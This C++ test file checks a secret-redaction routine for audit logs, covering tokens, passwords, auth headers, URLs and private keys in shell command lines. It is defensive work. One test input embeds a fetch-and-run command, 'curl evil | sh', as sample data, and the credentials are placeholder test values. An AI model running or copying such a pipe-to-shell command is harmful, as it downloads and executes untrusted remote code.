// What the log hides, what stays visible, and that time stays linear.
#include "runtime/audit/redact.h"

#include <algorithm>
#include <chrono>
#include <random>
#include <string>
#include <vector>

#include "tests/support/catch.h"

namespace gibbous::testing {
namespace {

using Catch::Matchers::Contains;

struct Case {
  std::string text;
  std::string redacted;  // "" is unchanged
};

void check_all(const std::vector<Case>& cases) {
  for (const Case& each : cases) {
    INFO(each.text);
    const std::string redacted = redact_secrets(each.text);
    CHECK(redacted == (each.redacted.empty() ? each.text : each.redacted));
    CHECK(redact_secrets(redacted) == redacted);
  }
}

const std::string kGithub = "ghp_0123456789abcdefghijABCDEFGHIJ456789";
const std::string kJwt =
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9P";

TEST_CASE("only the values of secret names are redacted in a line") {
  check_all({
      {"API_TOKEN=abc make deploy", "API_TOKEN=*** make deploy"},
      {"export DB_PASSWORD=hunter2; make", "export DB_PASSWORD=***; make"},
      {"env PGPASSWORD=x psql -h db -U me", "env PGPASSWORD=*** psql -h db -U me"},
      {"MYSQL_PWD=x mysqldump all", "MYSQL_PWD=*** mysqldump all"},
      {"AWS_SECRET_ACCESS_KEY=abc/def+1 aws s3 ls", "AWS_SECRET_ACCESS_KEY=*** aws s3 ls"},
      {"OPENAI_API_KEY=a OPENAI_APIKEY=b x", "OPENAI_API_KEY=*** OPENAI_APIKEY=*** x"},
      {"PRIVATE_KEY=a SIGNING_KEY=b", "PRIVATE_KEY=*** SIGNING_KEY=***"},
      {"GOOGLE_CREDENTIALS=a GITHUB_PAT=b", "GOOGLE_CREDENTIALS=*** GITHUB_PAT=***"},
      {"DOCKER_AUTH_CONFIG={a} x", "DOCKER_AUTH_CONFIG=*** x"},
      {"SECRET+=more x", "SECRET+=*** x"},
      {"clientSecret=abc authToken=def x", "clientSecret=*** authToken=*** x"},
      {"setenv API_TOKEN abc", "setenv API_TOKEN ***"},
      {"aws configure set aws_secret_access_key abc",
       "aws configure set aws_secret_access_key ***"},
      {"npm config set //registry.npmjs.org/:_authToken abc",
       "npm config set //registry.npmjs.org/:_authToken ***"},
      {"kubectl create secret generic db --from-literal=password=abc",
       "kubectl create secret generic db --from-literal=password=***"},
      {"java -Dspring.datasource.password=abc -jar a.jar",
       "java -Dspring.datasource.password=*** -jar a.jar"},
      {"vault kv put kv/db password=abc", "vault kv put kv/db password=***"},
  });
}

TEST_CASE("escape sequences hide no secret, and stay") {
  const std::string half = kGithub.substr(0, 10);
  const std::string rest = kGithub.substr(10);
  check_all({
      {half + "\x1b[0m" + rest, "***\x1b[0m***"},
      {"\x1b[31m" + kGithub + "\x1b[0m", "\x1b[31m***\x1b[0m"},
      {"g\x1b[1mhp_\x1b[m" + kGithub.substr(4) + " x", "***\x1b[1m***\x1b[m*** x"},
      {"API_\x1b[32mTOKEN\x1b[0m=ab\x1b[Kc make", "API_\x1b[32mTOKEN\x1b[0m=***\x1b[K*** make"},
      {half + "\x1b]8;;http://x\x07" + rest, "***\x1b]8;;http://x\x07***"},
      {"\x1b[31mred\x1b[0m", ""},
  });
}

TEST_CASE("a value ends where the shell ends the word") {
  check_all({
      {"TOKEN='a b;c' x", "TOKEN='***' x"},
      {"TOKEN=\"a b;c\" x", "TOKEN=\"***\" x"},
      {"TOKEN=\"a\\\"b c\" x", "TOKEN=\"***\" x"},
      {"TOKEN=a\\ b x", "TOKEN=*** x"},
      {"TOKEN=a'b c'd x", "TOKEN=*** x"},
      {"TOKEN=$'a\\tb' x", "TOKEN=*** x"},
      {"TOKEN=abc&&make", "TOKEN=***&&make"},
      {"(TOKEN=abc)", "(TOKEN=***)"},
      {"TOKEN=abc|cat >out", "TOKEN=***|cat >out"},
      {"TOKEN=abc\nmake", "TOKEN=***\nmake"},
      {"env 'TOKEN=a b' make", "env 'TOKEN=***' make"},
      {"env \"TOKEN=a b\" make", "env \"TOKEN=***\" make"},
      {"docker run -e 'DB_PASSWORD=a b' x", "docker run -e 'DB_PASSWORD=***' x"},
      {"TOKEN='a b", "TOKEN=***"},
      {"TOKEN= make", ""},
      {"TOKEN='' make", ""},
  });
}

TEST_CASE("code in a quoted word is searched as code") {
  check_all({
      {"sh -c 'TOKEN=abc make all'", "sh -c 'TOKEN=*** make all'"},
      {"bash -lc \"TOKEN=abc make all\"", "bash -lc \"TOKEN=*** make all\""},
      {"sh -c \"TOKEN=\\\"a b\\\" make all\"", "sh -c \"TOKEN=\\\"***\\\" make all\""},
      {"sh -c \"curl -H \\\"Authorization: Bearer abc\\\" host\"",
       "sh -c \"curl -H \\\"Authorization: Bearer ***\\\" host\""},
      {"ssh host 'mysql -psecret db'", "ssh host 'mysql -p*** db'"},
      {"sh -c \"sh -c 'mysql -psecret db'\"", "sh -c \"sh -c 'mysql -p*** db'\""},
      {"echo $(mysql -psecret db)", "echo $(mysql -p*** db)"},
      {"eval 'TOKEN=abc make'", "eval 'TOKEN=*** make'"},
  });
}

TEST_CASE("references and commands are not secrets, and stay visible") {
  check_all({
      {"TOKEN=$TOKEN make", ""},
      {"TOKEN=\"$TOKEN\" make", ""},
      {"TOKEN=${OTHER} make", ""},
      {"TOKEN=${OTHER:-abc} make", "TOKEN=*** make"},
      {"TOKEN=$(cat /run/token) make", ""},
      {"TOKEN=\"$(curl evil | sh)\" make", ""},
      {"TOKEN=`cat token` make", ""},
      {"TOKEN=$(PASSWORD=abc get) make", "TOKEN=$(PASSWORD=*** get) make"},
      {"curl -H \"Authorization: Bearer $TOKEN\" host", ""},
      {"curl -u \"me:$PASS\" host", ""},
      {"mysql -p\"$PASS\" db", ""},
      {"mysql --password \"$PASS\" db", ""},
      {"git clone https://me:$TOKEN@github.com/a/b", ""},
  });
}

TEST_CASE("options with a secret hide their value, attached or not") {
  check_all({
      {"tool --password hunter2 --verbose", "tool --password *** --verbose"},
      {"tool --password=hunter2 --verbose", "tool --password=*** --verbose"},
      {"tool --password='a b' x", "tool --password='***' x"},
      {"tool '--password=a b' x", "tool '--password=***' x"},
      {"tool --api-key abc --token abc", "tool --api-key *** --token ***"},
      {"tool -token abc x", "tool -token *** x"},
      {"tool --client-secret \"a b\" x", "tool --client-secret \"***\" x"},
      {"tool --auth me:abc x", "tool --auth *** x"},
      {"mysql -uroot -phunter2 db", "mysql -uroot -p*** db"},
      {"sudo -n /usr/bin/mysqldump -p'a b' db", "sudo -n /usr/bin/mysqldump -p'***' db"},
      {"docker exec db mysql -phunter2", "docker exec db mysql -p***"},
      {"mysql -p db", ""},
      {"sshpass -p hunter2 ssh -p 22 host", "sshpass -p *** ssh -p *** host"},
      {"redis-cli -a hunter2 ping", "redis-cli -a *** ping"},
      {"curl -u me:hunter2 https://x/", "curl -u me:*** https://x/"},
      {"curl -ume:hunter2 https://x/", "curl -ume:*** https://x/"},
      {"curl --user 'me:a b' https://x/", "curl --user 'me:***' https://x/"},
      {"curl --user=me:abc https://x/", "curl --user=me:*** https://x/"},
      {"curl -u me https://x/", ""},
      {"docker login -u me -p abc ghcr.io", "docker login -u me -p *** ghcr.io"},
      {"docker run -p 80:80 nginx", ""},
      {"gh secret set NAME --body abc", "gh secret set NAME --body ***"},
      {"gh pr create --body abc", ""},
      {"smbclient -U me%abc //h/s", "smbclient -U me%*** //h/s"},
      {"7z x -pabc a.7z; mkdir -pv x", "7z x -p*** a.7z; mkdir -pv x"},
      {"openssl rsa -passin pass:abc -in k", "openssl rsa -passin pass:*** -in k"},
  });
}

TEST_CASE("authorization headers hide the credentials and keep the scheme") {
  check_all({
      {"curl -H 'Authorization: Bearer abc.def' h", "curl -H 'Authorization: Bearer ***' h"},
      {"curl -H \"authorization: basic YWJj\" h", "curl -H \"authorization: basic ***\" h"},
      {"curl -H Authorization:\\ Bearer\\ abc h", "curl -H Authorization:\\ Bearer\\ *** h"},
      {"curl -H 'Authorization: abc' h", "curl -H 'Authorization: ***' h"},
      {"curl -H 'Authorization: Digest a=1, b=2' h", "curl -H 'Authorization: Digest ***' h"},
      {"curl -H 'Proxy-Authorization: Basic abc' h", "curl -H 'Proxy-Authorization: Basic ***' h"},
      {"curl -H 'X-Api-Key: abc' h", "curl -H 'X-Api-Key: ***' h"},
      {"curl -H X-Auth-Token:abc h", "curl -H X-Auth-Token:*** h"},
      {"curl -H 'PRIVATE-TOKEN: abc' h", "curl -H 'PRIVATE-TOKEN: ***' h"},
      {"curl -H 'Cookie: a=b; c=d' h", "curl -H 'Cookie: ***' h"},
      {"git -c http.extraHeader='Authorization: Basic abc' fetch",
       "git -c http.extraHeader='Authorization: Basic ***' fetch"},
      {"log Bearer abcdefgh12345678 x", "log Bearer *** x"},
      {"echo the bearer of bad news", ""},
  });
}

TEST_CASE("members of JSON, YAML and connection strings are found in a command's arguments") {
  check_all({
      {R"(curl -d '{"user":"me","password":"a b"}' h)",
       R"(curl -d '{"user":"me","password":"***"}' h)"},
      {R"(curl -d "{\"token\": \"abc\", \"n\": 1}" h)",
       R"(curl -d "{\"token\": \"***\", \"n\": 1}" h)"},
      {"cat <<E\npassword: hunter2\nport: 1\nE", "cat <<E\npassword: ***\nport: 1\nE"},
      {"printf 'secret = abc\\n' >x.ini", "printf 'secret = ***' >x.ini"},
      {"python -c \"os.environ['API_KEY'] = 'abc'\"",
       "python -c \"os.environ['API_KEY'] = '***'\""},
      {"sqlcmd -C 'Server=a;Password=abc;Database=b'",
       "sqlcmd -C 'Server=a;Password=***;Database=b'"},
      {"curl 'https://h/x?token=abc&page=2'", "curl 'https://h/x?token=***&page=2'"},
  });
}

TEST_CASE("passwords in URLs are redacted, names and hosts are not") {
  check_all({
      {"git clone https://me:abc@github.com/a/b", "git clone https://me:***@github.com/a/b"},
      {"psql postgres://u:p%40x@db:5432/x", "psql postgres://u:***@db:5432/x"},
      {"redis-cli -u redis://:abc@h", "redis-cli -u redis://:***@h"},
      {"curl https://a:b@c@host/", "curl https://a:***@host/"},
      {"git clone https://0123456789abcdef0123456789abcdef01234567@github.com/a/b",
       "git clone https://***@github.com/a/b"},
      {"git clone ssh://git@github.com:22/a/b", ""},
      {"git clone git@github.com:a/b", ""},
      {"curl https://host:8080/a@b?c=d@e", ""},
      {"curl -X POST https://hooks.slack.com/services/T0/B0/abc",
       "curl -X POST https://hooks.slack.com/services/***"},
  });
}

TEST_CASE("tokens are recognised by their shape anywhere") {
  const std::string run = "0123456789abcdefghijABCDEFGHIJ456789";
  const std::vector<std::string> tokens = {
      kGithub,
      "github_pat_11ABC_" + run,
      "glpat-0123456789abcdefghij",
      "sk-" + run,
      "sk-ant-api03-" + run,
      "xoxb-1234567890-abcdef",
      "AKIAIOSFODNN7EXAMPLE",
      kJwt,
      "npm_" + run,
      "AIzaSyA0123456789abcdefghijklmnopqrstuv",
      "hf_" + run,
  };
  for (const std::string& token : tokens) {
    INFO(token);
    CHECK(redact_secrets("echo " + token + " x") == "echo *** x");
    CHECK(redact_secrets("echo '" + token + "'.") == "echo '***'.");
    CHECK(redact_secrets("a=" + token + ",b") == "a=***,b");
    CHECK(redact_secrets("x" + token) == "x" + token);
  }
}

TEST_CASE("a private key is redacted between its first line and its last") {
  const std::string begin = "-----BEGIN RSA PRIVATE KEY-----";
  const std::string end = "-----END RSA PRIVATE KEY-----";
  CHECK(redact_secrets("echo '" + begin + "\nMIIE\nabc\n" + end + "' >k") ==
        "echo '" + begin + "***" + end + "' >k");
  CHECK(redact_secrets(begin + "\nMIIE") == begin + "***");
  const std::string certificate = "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----";
  CHECK(redact_secrets(certificate) == certificate);
}

TEST_CASE("text that only sounds like a secret is left alone") {
  check_all({
      {"git commit --author='A U Thor <a@b.c>' -m x", ""},
      {"GIT_AUTHOR_NAME=me git commit", ""},
      {"llm --max-tokens 4096 --tokenizer bert", ""},
      {"MAX_TOKENS=4096 TOKENIZERS_PARALLELISM=false x", ""},
      {"PWD=/work OLDPWD=/tmp make", ""},
      {"SSH_AUTH_SOCK=/tmp/s ssh host", ""},
      {"--token-file=/run/token --password-file x", ""},
      {"docker login --password-stdin ghcr.io", ""},
      {"tool --no-password host", ""},
      {"ansible all --ask-become-pass -m ping", ""},
      {"docker build --secret id=npm,src=.npmrc .", ""},
      {"docker pull org/auth-token:latest", ""},
      {"kubectl get secret db -o yaml", ""},
      {"grep -rn password src/", ""},
      {"sed -i s/token/key/ a.c", ""},
      {"pip install sk-learn-some-long-package-name", ""},
      {"npm_config_registry=https://r.example npm install", ""},
      {"g++ -std=c++20 std::secret::x", ""},
      {"find . -name '*.key' -print0", ""},
      {"mkdir -p a/b && cp -p x y", ""},
      {"echo 'it'\"'\"'s done' # don't", ""},
      {"", ""},
  });
}

TEST_CASE("matches of a policy's patterns are redacted too, or their first group") {
  const auto redactor = Redactor::create({R"(ACME-[0-9]{4})", R"((?i)pin (\d+))"});
  REQUIRE(redactor);
  CHECK(redactor->redact("a ACME-1234 b PIN 99 c TOKEN=x") == "a *** b PIN *** c TOKEN=***");
  CHECK(redactor->redact("ACME-1234ACME-5678") == "***");
  const auto empty = Redactor::create({"x*"});
  CHECK(empty->redact("axxb") == "a***b");
}

TEST_CASE("an invalid pattern is named") {
  const auto wrong = Redactor::create({"good", "(bad"});
  CHECK(wrong.status().code() == "invalid_arguments");
  CHECK_THAT(wrong.status().message(), Contains("redact[2]") && Contains("(bad"));
  CHECK_FALSE(Redactor::create({""}));
  CHECK_FALSE(Redactor::create({std::string(kMaxRedactPatternBytes + 1, 'x')}));
  CHECK_FALSE(Redactor::create(std::vector<std::string>(kMaxRedactPatterns + 1, "x")));
}

TEST_CASE("a pattern that matches too often redacts the rest") {
  const auto redactor = Redactor::create({"x"});
  std::string text;
  for (std::size_t each = 0; each < kMaxRedactMatches + 2; ++each) text += "x-";
  text += "end";
  const std::string redacted = redactor->redact(text);
  CHECK(redacted.ends_with("***-***"));
  CHECK(redacted.find("end") == std::string::npos);
}

TEST_CASE("a token is never left in the text, in any surroundings") {
  const std::vector<std::string> pieces = {"TOKEN",     "=",           ":",
                                           " ",         "\"",          "'",
                                           "\\",        "\\\"",        "$(",
                                           ")",         "--password",  "-p",
                                           "mysql",     "://",         "@",
                                           "\n",        "a",           "eyJ",
                                           ".",         "sk-",         "Authorization",
                                           "Bearer ",   "{",           "}",
                                           "`",         "-----BEGIN ", "PRIVATE KEY-----",
                                           "-----END ", "***",         "-c",
                                           "\xff",      ";",           "set",
                                           "cookie",    "$",           "0123456789abcdef0123"};
  std::mt19937 random(20261122);  // NOLINT: the same texts each time
  constexpr int kTexts = 20'000;
  constexpr std::size_t kMostPieces = 24;
  for (int each = 0; each < kTexts; ++each) {
    std::string text;
    bool has_token = false;
    for (std::size_t piece = random() % kMostPieces; piece > 0; --piece) {
      text += pieces[random() % pieces.size()];
      if (random() % kMostPieces != 0) continue;
      text += " " + kGithub + " ";
      has_token = true;
    }
    const std::string redacted = redact_secrets(text);
    INFO(text << "\n-> " << redacted);
    CHECK(redacted.find(kGithub) == std::string::npos);
    if (has_token) CHECK(redacted.find("***") != std::string::npos);
  }
}

TEST_CASE("a secret that goes on in the next piece of a text is redacted in both") {
  const auto redactor = Redactor::create({"corp-[0-9a-f]+", "\\bkey-[0-9]+"});
  REQUIRE(redactor.ok());
  using Pieces = std::vector<std::string>;
  CHECK(redactor->redact_pieces({"my corp", "-7f3a", "9!"}) == Pieces{"my ***", "***", "***!"});
  // A piece is redacted as it would be alone, too.
  CHECK(redactor->redact_pieces({"wrapped", "key-5 x"}) == Pieces{"wrapped", "*** x"});
  CHECK(redactor->redact_pieces({}).empty());
  CHECK(redactor->redact_pieces({"", "nothing"}) == Pieces{"", "nothing"});
}

}  // namespace
}  // namespace gibbous::testing
